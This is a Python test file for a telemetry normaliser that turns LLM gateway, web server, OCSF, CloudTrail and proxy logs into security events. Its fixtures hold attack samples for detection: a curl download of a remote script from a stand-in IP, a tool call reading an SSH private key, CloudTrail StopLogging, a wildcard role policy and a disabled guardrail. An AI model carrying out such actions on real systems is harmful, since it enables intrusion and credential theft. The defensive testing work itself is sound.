"""Logs of gateways, web servers and OCSF senders arrive as events under our names; what cannot be used is refused by line and field."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from caiso.connect.telemetry.decode import ndjson
from caiso.connect.telemetry.decode.shapes import plain, webproxy
from caiso.connect.telemetry.normalise import merge_content, normalise
from caiso.connect.telemetry.records import LIMITS, RawRecord, Refusal
from tests.connect.telemetry import logs

NOW_US = int(logs.AT * 1e6) + 60_000_000


def decode(*documents: Any) -> list[RawRecord | Refusal]:
    body = b"\n".join(json.dumps(document).encode() for document in documents)
    return list(ndjson.decode(body, LIMITS))


def event(document: dict[str, Any]) -> dict[str, Any]:
    (record,) = decode(document)
    assert isinstance(record, RawRecord), record
    found = normalise(record, source_id="s", ingest_us=NOW_US)
    return merge_content(found.event, found.segments)


def reason(document: dict[str, Any]) -> str:
    (refusal,) = decode(document)
    assert isinstance(refusal, Refusal)
    assert refusal.index == 1
    return refusal.reason


def has(found: dict[str, Any], **expected: Any) -> bool:
    named = {name.replace("__", "."): value for name, value in expected.items()}
    assert {name: found.get(name) for name in named} == named
    return True


def test_litellm_call_becomes_an_inference_with_who_what_and_content() -> None:
    found = event(logs.litellm())
    assert has(
        found, event__kind="inference", service__name="claims-copilot", gen_ai__provider__name="openai",
        gen_ai__request__model="gpt-5-mini", gen_ai__response__model="gpt-5-mini-2026-08", gen_ai__usage__input_tokens=40,
        gen_ai__usage__output_tokens=21, user__id="amara", api_key__id="88dc28d0f030c55ed4ab77ed8faf098196cb1c05",
        client__address="198.51.100.23", server__address="api.openai.example", duration_us=1_500_000,
        guardrail__policy="injection", guardrail__verdict="guardrail_intervened", logit_bias_used=True, error__type=None,
        content__system="You help with claims.", content__untrusted=logs.INJECTED, content__output="It is an invoice.",
        time=int(logs.AT * 1e6), aisoc__session="3f0c9f0e-8a51-4a7e-9a0b-0d6f3a1f8c11", content__missing=False,
    )  # fmt: skip
    assert found["gen_ai.response.finish_reasons"] == ["stop"]


def test_litellm_wrapped_in_a_callback_and_gathered_in_a_list_is_the_same() -> None:
    plain = event(logs.litellm())
    assert event({"standard_logging_object": logs.litellm(), "other": 1}) == plain
    listed = list(ndjson.decode(json.dumps([logs.litellm(), 7, logs.nginx()], indent=1).encode(), LIMITS))
    assert [type(item) for item in listed] == [RawRecord, Refusal, RawRecord]
    assert isinstance(listed[1], Refusal)
    assert (listed[1].index, "must be a JSON object" in listed[1].reason) == (2, True)


def test_litellm_failure_and_tool_call_and_embedding() -> None:
    failed = logs.litellm(
        status="failure", response=None, error_str="no", error_information={"error_class": "RateLimitError"}
    )
    assert has(event(failed), error__type="RateLimitError", content__output=None)
    tool = event(logs.mcp_call())
    assert has(
        tool, event__kind="tool", gen_ai__tool__name="read_file", mcp__server__name="files", mcp__method__name="tools/call",
        gen_ai__tool__call__result="(key)", gen_ai__request__model=None,
    )  # fmt: skip
    assert json.loads(tool["gen_ai.tool.call.arguments"]) == {"path": "/home/deploy/.ssh/id_ed25519"}
    embedding = logs.litellm(call_type="aembedding", messages="a text", response={"object": "list", "data": []})
    assert has(event(embedding), event__kind="embedding", content__user="a text")


def test_nginx_line_becomes_a_request() -> None:
    assert has(
        event(logs.nginx()), event__kind="http", http__request__method="GET", url__full="https://models.example/.git/config?x=1",
        url__path="/.git/config", url__query="x=1", server__address="models.example", client__address="203.0.113.9",
        http__response__status_code=404, http__response__body__size=153, duration_us=12_000, user__id=None,
        user_agent__original="Nuclei - Open-source project", time=1_795_337_999_000_000, event__name="",
    )  # fmt: skip


def test_nginx_with_few_fields_and_the_common_log_time() -> None:
    few = {
        "remote_addr": "203.0.113.9",
        "time_local": "22/Nov/2026:09:59:59 +0100",
        "request": "GET /a.php HTTP/1.0",
        "status": 200,
    }
    assert has(event(few), url__path="/a.php", url__extension="php", time=1_795_337_999_000_000, url__full=None)
    assert has(event(few | {"request": "\\x16\\x03\\x01"}), url__path="\\x16\\x03\\x01", http__request__method=None)


def test_envoy_line_becomes_a_request_and_dashes_mean_nothing() -> None:
    assert has(
        event(logs.envoy()), event__kind="http", http__request__method="POST", url__path="/v1/models/fraud:predict",
        url__full="http://serving.example:8443/v1/models/fraud:predict", server__address="serving.example",
        client__address="198.51.100.4", http__response__status_code=200, http__response__body__size=88, duration_us=34_000,
        envoy__response_flags=None,
    )  # fmt: skip
    assert has(event(logs.envoy(downstream_remote_address="[2001:db8::1]:443")), client__address="2001:db8::1")


def test_ocsf_api_activity_is_what_cloud_rules_ask_for() -> None:
    assert has(
        event(logs.ocsf_api()), event__kind="api", api__operation="StopLogging", api__service__name="cloudtrail.amazonaws.com",
        cloud__provider="aws", cloud__account__id="123456789012", user__id="mallory", client__address="203.0.113.50",
        error__type="AccessDenied", user_agent__original="aws-cli/2.17", time=int(logs.AT * 1e6),
    )  # fmt: skip


def test_ocsf_api_activity_with_a_message_is_a_call_of_a_model() -> None:
    found = event(
        logs.ocsf_api(
            ai_model={"name": "claude-4", "ai_provider": "Anthropic"},
            message_context={"prompt_text": "hello", "response_text": "hi", "prompt_tokens": 3, "uid": "c1",
                             "application": {"name": "helper"}},
        )
    )  # fmt: skip
    assert has(
        found, event__kind="inference", gen_ai__request__model="claude-4", gen_ai__provider__name="anthropic",
        content__user="hello", content__output="hi", gen_ai__usage__input_tokens=3, service__name="helper", aisoc__session="c1",
    )  # fmt: skip


def test_ocsf_process_launch_is_something_that_ran_and_its_end_is_not() -> None:
    started = event(logs.ocsf_process())
    assert has(
        started, event__kind="tool", aisoc__tool__impact="exec", process__command_line="curl -s http://203.0.113.77/x.sh",
        process__executable__path="/usr/bin/curl", user__id="trainer", gen_ai__tool__name=None, service__name="",
    )  # fmt: skip
    assert has(event(logs.ocsf_process(activity_id=2)), event__kind="other", aisoc__tool__impact=None)


def test_ocsf_http_and_web_resources_are_requests() -> None:
    expected = {
        "event__kind": "http", "http__request__method": "GET", "url__path": "/admin/export.php", "url__query": "all=1",
        "url__extension": "php", "server__address": "models.example", "http__response__status_code": 403,
        "client__address": "203.0.113.9",
    }  # fmt: skip
    assert has(event(logs.ocsf_http()), **expected)
    resources = logs.ocsf_http(6001, http_request={}, web_resources=[{"url_string": "https://models.example/a.txt"}])
    assert has(event(resources), url__path="/a.txt", server__address="models.example")


def test_ocsf_login_and_access_to_data() -> None:
    login = logs.ocsf(
        3002, user={"name": "amara"}, src_endpoint={"ip": "203.0.113.3"}, status_id=2, status_detail="bad password"
    )
    assert has(event(login), event__kind="authz", action="logon", user__id="amara", error__type="bad password")
    write = logs.ocsf(
        6005, activity_id=5, database={"name": "lake"}, table={"name": "loans"}, actor={"user": {"name": "etl"}}
    )
    assert has(
        event(write), event__kind="data_access", dataset__id="lake/loans", action="write", writer="etl", user__id="etl"
    )


def test_native_records_stay_what_they_were() -> None:
    native = [
        {"event.kind": "ml_inference", "model.id": "fraud", "input.features": [0.1, 2.0], "output.label": "ok", "time": logs.AT},
        {"event.kind": "registry", "artifact.uri": "s3://m/a", "action": "register", "registry.stage": "prod", "time": logs.AT},
        {"event.kind": "data_access", "dataset.id": "loans", "rows": "12", "action": "read", "time": logs.AT},
        {"event.kind": "training", "dataset.id": "loans", "writer": "etl", "time": logs.AT},
    ]  # fmt: skip
    found = [event(document) for document in native]
    assert [one["event.kind"] for one in found] == ["ml_inference", "registry", "data_access", "training"]
    assert found[2]["rows"] == 12


@pytest.mark.parametrize(
    ("document", "word"),
    [
        ({"level": "info", "msg": "started"}, "'level'"),
        (logs.ocsf(2004, finding_info={}), "class_uid 2004"),
        (logs.ocsf(4002), "http_request.url"),
        (logs.ocsf(6003), "api.operation"),
        (logs.ocsf(6005), "database"),
        (logs.ocsf_api() | {"api": "StopLogging"}, "api must be an object"),
        (logs.ocsf_api() | {"time": None}, "has no time"),
        (logs.ocsf_http() | {"http_response": {"code": "many"}}, "code must be a number"),
        (logs.nginx(status=[200]), "status must be a number"),
        (logs.nginx(time_iso8601="yesterday"), "yesterday"),
        (logs.nginx() | {"time_iso8601": "22/Foo/2026:09:59:59 +0100"}, "time_iso8601"),
        (logs.nginx(http_user_agent={"a": 1}), "http_user_agent"),
        ({"remote_addr": "203.0.113.9", "request_time": "0.1", "time": logs.AT}, "without a request"),
        (logs.litellm(messages=7), "messages must be"),
        (logs.litellm(metadata=[1]), "metadata must be an object"),
        (logs.litellm(startTime=None), "startTime"),
        (logs.litellm(prompt_tokens="a lot"), "prompt_tokens"),
        (logs.litellm(prompt_tokens=float(10**40)), "prompt_tokens"),
    ],
)
def test_what_cannot_be_used_is_refused_with_the_name_of_its_field(document: dict[str, Any], word: str) -> None:
    assert word in reason(document)


def test_no_text_of_a_message_and_no_secret_header_lies_open_in_the_event() -> None:
    request = logs.ocsf_http()["http_request"] | {"http_headers": [{"name": "Authorization", "value": "Bearer sesame"}]}
    for document in (logs.litellm(), logs.mcp_call(), logs.ocsf_http(http_request=request, message="sesame")):
        (record,) = decode(document)
        assert isinstance(record, RawRecord)
        written = json.dumps(normalise(record, source_id="s", ingest_us=NOW_US).event)
        assert not [word for word in ("ledger-check", "invoice", "id_ed25519", "sesame") if word in written]


_leaf = st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20)
_value = st.recursive(
    _leaf,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
_samples = [
    logs.litellm(),
    logs.mcp_call(),
    logs.nginx(),
    logs.envoy(),
    logs.ocsf_api(),
    logs.ocsf_process(),
    logs.ocsf_http(),
]


@settings(max_examples=300, deadline=None)
@given(st.sampled_from(_samples), st.data())
def test_damaged_fields_are_read_or_refused_never_a_crash(sample: dict[str, Any], data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(sorted(sample)))
    for item in decode(sample | {name: data.draw(_value)}):
        if isinstance(item, RawRecord):
            normalise(item, source_id="s", ingest_us=NOW_US)


@pytest.mark.parametrize(
    ("peer", "handed_on", "client"),
    [
        ("10.0.0.2", "203.0.113.9, 10.1.1.1", "203.0.113.9"),
        (
            "10.0.0.2:4411",
            "10.9.9.9, 203.0.113.9:80, 198.51.100.4",
            "198.51.100.4",
        ),  # what stands first, the client wrote
        ("10.0.0.2", "10.9.9.9", "10.0.0.2"),
        ("10.0.0.2", "unknown, <script>", "10.0.0.2"),
        ("198.51.100.7", "203.0.113.9", "198.51.100.7"),  # nobody hands on for a stranger
        ("-", "203.0.113.9", "203.0.113.9"),
        ("10.0.0.2", "", "10.0.0.2"),
    ],
)
def test_client_behind_a_balancer_of_the_house_is_the_one_it_was_handed_on_for(
    peer: str, handed_on: str, client: str
) -> None:
    assert event(logs.nginx(remote_addr=peer, http_x_forwarded_for=handed_on))["client.address"] == client


def test_session_of_mcp_in_an_access_log_is_kept() -> None:
    found = event(logs.nginx(mcp_session_id="7f0a"))
    assert has(found, mcp__session__id="7f0a", aisoc__session="7f0a", event__kind="http")


def trail(name: str, source: str = "iam.amazonaws.com", **more: Any) -> dict[str, Any]:
    return {
        "eventVersion": "1.11", "eventTime": "2026-11-26T09:14:07Z", "eventSource": source, "eventName": name,
        "awsRegion": "eu-central-1", "sourceIPAddress": "203.0.113.9", "userAgent": "aws-cli/2.31", "recipientAccountId": "770418812214",
        "userIdentity": {
            "type": "AssumedRole", "arn": "arn:aws:sts::770418812214:assumed-role/ops-agent/run", "accessKeyId": "ASIAEXAMPLE",
            "sessionContext": {"sessionIssuer": {"userName": "ops-agent"}},
        },
        **more,
    }  # fmt: skip


def test_cloudtrail_call_becomes_what_the_rules_about_clouds_ask_for() -> None:
    found = event(trail("ListFoundationModels", "bedrock.amazonaws.com", errorCode="AccessDenied"))
    assert has(
        found, event__kind="api", api__operation="ListFoundationModels", api__service__name="bedrock.amazonaws.com",
        user__id="ops-agent/run", api_key__id="ASIAEXAMPLE", client__address="203.0.113.9", error__type="AccessDenied",
        cloud__provider="aws", cloud__account__id="770418812214", user_agent__original="aws-cli/2.31",
    )  # fmt: skip


def test_cloudtrail_read_of_an_object_is_access_to_data_and_a_granted_policy_an_authorisation() -> None:
    read = trail(
        "GetObject", "s3.amazonaws.com", requestParameters={"bucketName": "weights", "key": "m/model.safetensors"},
        additionalEventData={"bytesTransferredOut": 8_600_000_000},
    )  # fmt: skip
    assert has(
        event(read), event__kind="data_access", action="GetObject", artifact__uri="s3://weights/m/model.safetensors",
        dataset__id="weights", bytes=8_600_000_000, writer=None,
    )  # fmt: skip
    policy = {"Statement": [{"Effect": "Allow", "Action": "*"}]}
    granted = event(trail("PutRolePolicy", requestParameters={"roleName": "ops-agent", "policyDocument": policy}))
    assert has(
        granted, event__kind="authz", action="PutRolePolicy", config__target="role/ops-agent", writer="ops-agent"
    )
    assert json.loads(str(granted["config.new"])) == policy


def test_cloudtrail_names_of_users_services_and_what_is_missing() -> None:
    assert has(
        event(trail("RunInstances", "ec2.amazonaws.com", userIdentity={"type": "IAMUser", "userName": "mkern"})),
        user__id="mkern",
    )
    inside = event(
        trail(
            "Decrypt",
            "kms.amazonaws.com",
            sourceIPAddress="rds.amazonaws.com",
            userIdentity={"invokedBy": "rds.amazonaws.com"},
        )
    )
    assert has(inside, user__id="rds.amazonaws.com", client__address=None)
    assert reason(trail("")) == "eventName and eventSource must not be empty, without them nobody knows what was called"
    assert "userIdentity must be an object" in reason(trail("RunInstances", userIdentity="me"))
    assert "has no time" in reason({**trail("RunInstances"), "eventTime": None})


def test_a_file_of_cloudtrail_is_read_record_by_record() -> None:
    body = json.dumps(
        {
            "Records": [
                trail("RunInstances", "ec2.amazonaws.com"),
                trail(""),
                trail("DeleteTrail", "cloudtrail.amazonaws.com"),
            ]
        }
    )
    found = list(ndjson.decode(body.encode(), LIMITS))
    assert [type(one) for one in found] == [RawRecord, Refusal, RawRecord]
    assert isinstance(found[1], Refusal)
    assert found[1].index == 2
    assert len(list(ndjson.decode(b'{"Records": 7}', LIMITS))) == 1
    assert len(list(ndjson.decode(b'{"Records": [', LIMITS))) == 1


def test_cloudtrail_and_ocsf_calls_of_bedrock_are_calls_of_a_model() -> None:
    found = event(trail("InvokeModel", "bedrock.amazonaws.com", requestParameters={"modelId": "vendor.large-v1"}))
    assert has(
        found, event__kind="inference", gen_ai__request__model="vendor.large-v1", service__name="ops-agent", api__operation="InvokeModel",
        gen_ai__provider__name="aws.bedrock", content__missing=True,
    )  # fmt: skip
    ocsf = {
        "class_uid": 6003, "category_uid": 6, "time": int(logs.AT * 1000), "metadata": {"version": "1.4.0"},
        "api": {"operation": "Converse", "service": {"name": "bedrock.amazonaws.com"}}, "actor": {"user": {"name": "svc-llm", "credential_uid": "AKIA7"}},
        "src_endpoint": {"ip": "203.0.113.9", "location": {"country": "BR"}}, "resources": [{"uid": "vendor.large-v1", "type": "model"}],
        "status_id": 2, "status_code": "AccessDeniedException",
    }  # fmt: skip
    assert has(
        event(ocsf), event__kind="inference", gen_ai__request__model="vendor.large-v1", user__id="svc-llm", api_key__id="AKIA7",
        client__geo__country_iso_code="BR", error__type="AccessDeniedException", service__name="svc-llm",
    )  # fmt: skip


def served(**more: Any) -> dict[str, Any]:
    return {
        "timestamp": "2026-11-26T09:14:07Z", "request_id": "r-1", "model_name": "solva-score", "model_version": "7", "client_id": "c-9",
        "client_ip": "203.0.113.9", "features": [0.5, -1.25, 3], "prediction": "review", "confidence": 0.71, **more,
    }  # fmt: skip


def test_a_log_of_predictions_becomes_a_record_of_inference() -> None:
    found = event(served(probabilities={"accept": 0.2, "review": 0.71, "reject": 0.09}, segment="mobile", score=0.33))
    assert has(
        found, event__kind="ml_inference", model__id="solva-score", model__version="7", user__id="c-9", client__address="203.0.113.9",
        output__label="review", output__confidence=0.71, output__score=0.33, output_granularity="probabilities", segment="mobile",
    )  # fmt: skip
    assert found["input.features"] == [0.5, -1.25, 3.0]


def test_inputs_and_answers_in_other_forms() -> None:
    assert event(served(features={"b": 2, "a": 1}))["input.features"] == [1.0, 2.0]
    assert event(served(features=[[1, 2]]))["input.features"] == [1.0, 2.0]
    assert "input.features" not in event(served(features=["red", 1]))
    plain = event({"ts": 1_790_000_000, "model": "risk", "prediction": 0.25, "inputs": [1, 2]})
    assert has(plain, output__score=0.25, output__label=None, model__id="risk")
    assert has(event(served(confidence=None, probabilities=[0.1, 0.9])), output__confidence=0.9)


def test_predictions_that_cannot_be_read_are_named() -> None:
    assert "longer than 4096" in reason(served(features=[1] * 5000))
    assert "confidence must be a number" in reason(served(confidence="sure"))
    assert "has no time" in reason({**served(), "timestamp": None})
    assert "mean nothing here" in reason({"timestamp": "2026-11-26T09:14:07Z", "model_name": "m", "latency_ms": 4})
    spoken = {"timestamp": "2026-11-26T09:14:07Z", "model": "m", "input": "Hello", "output": "Hi", "score": 0.9}
    assert "mean nothing here" in reason(spoken), "what was said would be lost"


PLAIN: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "model scanner": (
        {"timestamp": "2026-11-02T10:00:00Z", "scanner": "picklescan", "source": "hf://lab/small", "file": "model.pt", "sha256": "ab",
         "globals": [{"module": "posix", "name": "system", "safety": "Dangerous"}], "result": "error", "infected_files": 1},
        {"event.kind": "registry", "action": "scan", "artifact.uri": "hf://lab/small/model.pt", "artifact.digest": "ab",
         "artifact.globals": ["posix.system"], "finding.verdict": "malicious", "finding.source": "picklescan"},
    ),
    "scanner that counts": (
        {"time": "2026-11-02T10:00:00Z", "tool": "modelscan", "model": "lab/small", "total_issues": 1, "issues": [{"severity": "CRITICAL"}]},
        {"event.kind": "registry", "action": "scan", "artifact.uri": "lab/small", "finding.verdict": "malicious", "finding.source": "modelscan"},
    ),
    "known weakness of an honest package": (
        {"time": "2026-11-02T10:00:00Z", "tool": "pip-audit", "package": "jinja2", "version": "3.1.2", "vulnerabilities": ["CVE-2024-1"], "severity": "critical"},
        {"event.kind": "registry", "action": "scan", "artifact.uri": "pkg:jinja2@3.1.2", "finding.verdict": "suspicious"},
    ),
    "other digest than expected": (
        {"time": "2026-11-02T10:00:00Z", "event": "model_loaded", "model": "credit", "version": "4", "sha256": "ab", "expected_sha256": "cd"},
        {"event.kind": "registry", "model.id": "credit", "artifact.digest": "ab", "artifact.signature": "mismatch"},
    ),
    "audit of a package": (
        {"time": 1_790_000_000, "event": "audit", "package": "colorls", "version": "1.2", "status": "ok"},
        {"event.kind": "registry", "action": "scan", "artifact.uri": "pkg:colorls@1.2", "finding.verdict": "clean"},
    ),
    "registry": (
        {"ts": "2026-11-02T10:00:00Z", "event": "model.promoted", "model": "credit", "version": 4, "stage": "production", "signed": True,
         "actor": {"name": "kim", "id": "u1"}, "change_id": "CHG-4"},
        {"event.kind": "registry", "action": "model.promoted", "model.id": "credit", "model.version": "4", "user.id": "kim",
         "registry.stage": "production", "artifact.signature": "valid", "aisoc.approval.id": "CHG-4"},
    ),
    "job": (
        {"timestamp": "2026-11-02T10:00:00Z", "event": "job_submitted", "entrypoint": "python train.py", "source_ip": "192.0.2.7"},
        {"event.kind": "tool", "aisoc.tool.impact": "exec", "gen_ai.tool.call.arguments": {"command": "python train.py"}, "client.address": "192.0.2.7"},
    ),
    "trainer": (
        {"timestamp": "2026-11-02T10:00:00Z", "event": "nightly_update", "model": "bot", "examples": 240, "user": "cron"},
        {"event.kind": "training", "model.id": "bot", "rows": 240, "writer": "cron"},
    ),
    "setting": (
        {"timestamp": "2026-11-02T10:00:00Z", "action": "policy.updated", "setting": "guard/toxicity", "old": "on", "new": "off", "by": "lee"},
        {"event.kind": "config", "config.target": "guard/toxicity", "config.old": "on", "config.new": "off", "user.id": "lee"},
    ),
}  # fmt: skip


@pytest.mark.parametrize(("document", "fields"), PLAIN.values(), ids=PLAIN.keys())
def test_a_plain_event_says_what_it_is_about(document: dict[str, Any], fields: dict[str, Any]) -> None:
    assert plain.is_one(document)
    found = plain.read(document)
    assert {name: found.get(name) for name in fields} == fields


@pytest.mark.parametrize(
    "document",
    [
        {"timestamp": "2026-11-02T10:00:00Z", "event": "user_login", "user": "kim"},
        {"timestamp": "2026-11-02T10:00:00Z", "event": "response.created", "model": "m", "usage": {"total": 3}},
        {"event": "job_submitted", "entrypoint": "python train.py"},
        {"timestamp": "2026-11-02T10:00:00Z", "event": {"no": "text"}, "model": ["m"], "scanner": 3, "file": None},
        {"timestamp": "2026-11-02T10:00:00Z", "scanner": "x", "file": "f" * 400, "result": "ok"},
    ],
)
def test_an_event_about_nothing_that_rules_ask_for_is_none(document: dict[str, Any]) -> None:
    assert not plain.is_one(document)


def test_what_an_ocsf_call_changed_and_the_change_that_it_belongs_to() -> None:
    call = {
        "class_uid": 6003, "category_uid": 6, "time": int(logs.AT * 1000), "metadata": {"version": "1.6.0"},
        "api": {"operation": "UpdateGuardrail", "service": {"name": "control-plane"}}, "actor": {"user": {"name": "kim"}},
        "resources": [{"name": "desk/output-guard"}],
    }  # fmt: skip
    weaker = event({**call, "unmapped": {"change": {"enabled": [True, False]}, "ticket": None}})
    assert has(
        weaker,
        config__target="desk/output-guard",
        config__effect="weaker",
        config__old='{"enabled":true}',
        aisoc__approval__id=None,
    )
    assert event({**call, "unmapped": {"change": "CHG0042"}})["aisoc.approval.id"] == "CHG0042"
    assert "config.target" not in event({**call, "unmapped": {"change": {"enabled": True}}})
    assert "config.target" not in event({**call, "unmapped": ["change"]})


def proxied(**more: Any) -> dict[str, Any]:
    asked = {"model": "coder-32b", "temperature": 0.1, "messages": [{"role": "user", "content": "One line, please."}]}
    answered = {"choices": [{"message": {"role": "assistant", "content": "uname -a"}, "finish_reason": "stop"}]}
    return {
        "timestamp": "2026-11-26T09:14:07Z", "src_ip": "10.2.0.7:5100", "src_host": "PC-7", "user": "kim", "process": "image.py", "method": "POST",
        "url": "https://router.models.example/v1/chat/completions", "status": 200, "user_agent": "python-requests/2.32",
        "request_body": json.dumps(asked), "response_body": json.dumps(answered), **more,
    }  # fmt: skip


def test_a_proxy_that_sees_the_bodies_of_a_call_of_a_model() -> None:
    found = event(proxied())
    assert has(
        found, event__kind="inference", user__id="kim", client__address="10.2.0.7", server__address="router.models.example",
        gen_ai__request__model="coder-32b", content__user="One line, please.", content__output="uname -a", host__name="PC-7",
        process__executable__path="image.py",
    )  # fmt: skip
    assert event(proxied(status=502))["error.type"] == "502"
    assert event(proxied(request_body={"messages": [{"role": "user", "content": "Hi"}]}))["content.user"] == "Hi"


def test_other_bodies_in_a_proxy_are_no_call_of_a_model() -> None:
    assert event(proxied(request_body='{"ticket": 7}'))["event.kind"] != "inference"
    assert "has no time" in reason(proxied(timestamp=None))
    assert "user must be a single value" in reason(proxied(user=["kim"]))


def kept(**changes: Any) -> dict[str, Any]:
    """A line of a web proxy about what a provider of models keeps."""
    return {
        "timestamp": "2026-11-22T08:59:59Z", "src_ip": "10.2.0.4", "src_host": "bld-3", "process": "worker.exe", "method": "POST",
        "url": "https://api.openai.com/v1/threads/thread_7/messages?limit=1", "status": 200, "user_agent": "curl/8.9",
        "request_body": '{"role":"user","content":"hello"}', **changes,
    }  # fmt: skip


def test_what_a_provider_keeps_is_a_request_with_what_was_put_and_taken() -> None:
    found = event(kept(response_body={"id": "msg_1"}))
    assert has(
        found, event__kind="http", http__request__method="POST", url__path="/v1/threads/thread_7/messages", url__query="limit=1",
        client__address="10.2.0.4", process__executable__path="worker.exe", server__address="api.openai.com",
        content__user='{"role":"user","content":"hello"}', content__output='{"id":"msg_1"}', http__response__status_code=200,
    )  # fmt: skip


def test_proxies_that_keep_only_the_beginning_of_a_body() -> None:
    found = event(kept(request_body=None, response_excerpt='{"data":[{"name":"a","instr'))
    assert has(found, event__kind="http", content__output='{"data":[{"name":"a","instr')
    assert "no time" in reason(kept(timestamp=None, request_body=None, request_excerpt="{"))


@pytest.mark.parametrize(
    "changes",
    [
        {"url": "https://api.openai.com.evil.example/v1/threads"},
        {"url": "https://shop.example/v1/files"},
        {"request_body": None},
        {"request_body": ""},
    ],
)
def test_other_hosts_and_lines_without_a_body_are_no_such_request(changes: dict[str, Any]) -> None:
    assert not webproxy.is_one(kept(**changes))
